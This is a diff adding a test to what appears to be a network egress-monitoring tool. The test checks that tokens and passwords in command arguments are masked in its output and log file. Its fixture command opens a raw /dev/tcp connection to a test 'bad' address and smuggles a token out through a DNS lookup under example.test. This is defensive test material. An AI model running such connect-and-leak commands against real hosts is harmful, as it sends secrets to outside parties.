@@ -195,3 +195,26 @@ test('hostile names are shown escaped', { skip }, async () => {
   assert.match(dig.stderr, /blocked \S*example\.test/);
   assert.ok(!dig.stderr.includes('\x1b'));
 });
+
+test('secrets in arguments are masked in lines, table, events and file', { skip }, async () => {
+  const token = 'glpat-0123456789abcdefghij';
+  const command = [
+    ...['bash', '-c', `exec 3<>/dev/tcp/${bad.address}/8000; getent hosts ${token}.example.test`],
+    ...['x', '--password=hunter2', token],
+  ];
+  const file = join(stage().work, 'masked.jsonl');
+  for (const flags of [['--json', '--output', file], []]) {
+    const ended = await stage().run({ policy, flags, command });
+    const rows = ended.stderr.split('\n').filter((line) => /torwacht|"version"|bash/.test(line));
+    const told = rows.filter((line) => !line.startsWith('bash: ')).join('\n');
+    assert.match(told, /\[MASKED\]\.example\.test/);
+    assert.doesNotMatch(told, /hunter2|0123456789/);
+  }
+  const written = readFileSync(file, 'utf8');
+  assert.doesNotMatch(written, /hunter2|0123456789/);
+  const row = eventsOf(written).find(({ ip }) => ip === bad.address);
+  assert.match(
+    row?.argv ?? '',
+    /^bash -c '.*getent hosts \[MASKED\]\.example\.test' x --password=\[MASKED\] \[MASKED\]$/,
+  );
+});
